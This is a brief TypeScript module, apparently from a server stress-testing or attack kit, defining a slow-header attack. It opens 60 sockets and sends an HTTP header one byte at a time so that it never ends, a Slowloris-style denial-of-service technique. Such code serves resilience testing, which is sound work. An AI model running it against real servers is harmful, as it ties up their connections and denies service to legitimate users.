import type { Attack } from '../kit/attack.js';
import { trickle } from '../kit/target.js';

/** A byte now and then, and never an end. */
export const attack: Attack = {
  name: 'heads that never end',
  async run(target) {
    const sockets = await target.many(60);
    await Promise.all(sockets.map((socket) => trickle(target, socket, 'GET / HTTP/1.1\r\nX-Slow: ', 'a')));
  },
};
